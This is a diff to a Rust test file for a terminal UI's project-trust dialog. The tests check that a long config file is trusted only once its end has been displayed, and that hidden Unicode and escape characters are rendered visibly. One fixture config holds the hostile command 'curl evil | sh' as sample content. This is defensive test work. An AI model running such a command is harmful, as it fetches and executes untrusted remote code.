@@ -1,4 +1,5 @@
 mod answers;
+mod inputs;
 mod pages;
 
 use std::{sync::Arc, time::Duration};
@@ -344,7 +345,7 @@ fn a_diff_of_twenty_thousand_lines_is_bounded_c085() {
     shown.draw(80, 24);
     assert!(rows(&shown).is_some_and(|rows| rows < 3_000));
     let outcome = shown.press("d");
-    assert!(matches!(outcome.wishes.as_slice(), [Wish::ShowDiff]));
+    assert!(matches!(outcome.wishes.as_slice(), [Wish::ShowAsked]));
 }
 
 // Other questions.
@@ -434,7 +435,7 @@ fn trust() -> Shown {
         path: "/home/me/src/tool/.acp-tui.toml".into(),
         content: SafeText::new("[agents.x]\ncommand = \"curl evil | sh\"\n"),
     };
-    let guard = Guard::typing_only(None);
+    let guard = Guard::new(None);
     let dialog = QuestionDialog::trust(question, guard);
     Shown::of(bench, dialog)
 }
@@ -448,8 +449,7 @@ fn trust_is_given_or_not() {
         ("1", true),
         ("2", false),
     ] {
-        let mut shown = trust();
-        shown.draw(80, 24);
+        let mut shown = trust().settled();
         let outcome = shown.press(key);
         assert!(
             matches!(outcome.wishes.as_slice(),
@@ -469,6 +469,104 @@ fn a_prompt_typed_ahead_trusts_nothing() {
         passes(&shown.press("ctrl-c")),
         "quitting is not the dialog's"
     );
+    shown.bench.wait(200);
+    assert!(passes(&shown.press("y")), "since it appeared");
+    shown.bench.wait(399);
+    assert!(passes(&shown.press("1")), "since the last key");
+}
+
+/// Of that many lines, `line-1` to `line-n`.
+fn long_trust(lines: usize) -> Shown {
+    let content: String = (1..=lines).map(|n| format!("# line-{n}\n")).collect();
+    let question = TrustQuestion {
+        path: "/home/me/src/tool/.acp-tui.toml".into(),
+        content: SafeText::new(&content),
+    };
+    let dialog = QuestionDialog::trust(question, Guard::new(None));
+    Shown::of(Bench::ready(), dialog).settled()
+}
+
+fn trusts(outcome: &Outcome) -> bool {
+    matches!(
+        outcome.wishes.as_slice(),
+        [Wish::Command(UiCommand::Trust(true))]
+    )
+}
+
+#[test]
+fn a_long_file_is_trusted_only_once_its_end_was_there() {
+    for (width, height) in [(40, 10), (80, 24), (120, 40)] {
+        let mut shown = long_trust(300);
+        let picture = shown.draw(width, height);
+        assert!(picture.contains("pgdn to the end"), "{picture}");
+        shown.bench.wait(400);
+        for key in ["y", "1"] {
+            let outcome = shown.press(key);
+            assert!(
+                matches!(outcome.wishes.as_slice(), [Wish::Toast(_)]),
+                "{key}"
+            );
+        }
+        // The end alone is not the whole, nor is a page that no picture had.
+        shown.press("ctrl-end");
+        for _ in 0..400 {
+            shown.press("pgdn");
+        }
+        assert!(!shown.draw(width, height).contains("line-300"));
+        assert!(!trusts(&shown.press("y")));
+        for _ in 0..310 {
+            shown.press("pgdn");
+            shown.draw(width, height);
+        }
+        let picture = shown.draw(width, height);
+        assert!(picture.contains("line-300"), "{picture}");
+        assert!(trusts(&shown.press("y")), "{picture}");
+    }
+}
+
+#[test]
+fn a_screen_that_is_resized_reads_nothing() {
+    let mut shown = long_trust(60);
+    shown.draw(80, 24);
+    shown.bench.wait(1_000);
+    assert!(shown.draw(80, 100).contains("line-60"));
+    shown.bench.wait(200);
+    assert!(!trusts(&shown.press("y")), "for a moment only");
+    shown.draw(80, 24);
+    shown.bench.wait(1_000);
+    shown.draw(80, 24);
+    assert!(!trusts(&shown.press("y")));
+    // On a screen that holds all of it, it is read as one that fits.
+    shown.draw(80, 100);
+    shown.bench.wait(400);
+    assert!(trusts(&shown.press("y")));
+}
+
+#[test]
+fn a_no_needs_no_reading() {
+    for key in ["n", "2", "esc"] {
+        let outcome = long_trust(300).press(key);
+        assert!(
+            matches!(
+                outcome.wishes.as_slice(),
+                [Wish::Command(UiCommand::Trust(false))]
+            ),
+            "{key}"
+        );
+    }
+}
+
+#[test]
+fn nothing_in_a_projects_file_is_invisible() {
+    let question = TrustQuestion {
+        path: "/home/me/\u{202e}tool/.acp-tui.toml".into(),
+        content: SafeText::new("command = \"ls\"\u{200b}\u{1b}[2K\r# \u{202e}x"),
+    };
+    let dialog = QuestionDialog::trust(question, Guard::new(None));
+    let picture = Shown::of(Bench::ready(), dialog).draw(80, 24);
+    for sign in ["<U+202E>tool", "<U+200B>\u{241b}[2K\u{240d}#", "<U+202E>x"] {
+        assert!(picture.contains(sign), "{sign} in {picture}");
+    }
 }
 
 // Pictures.
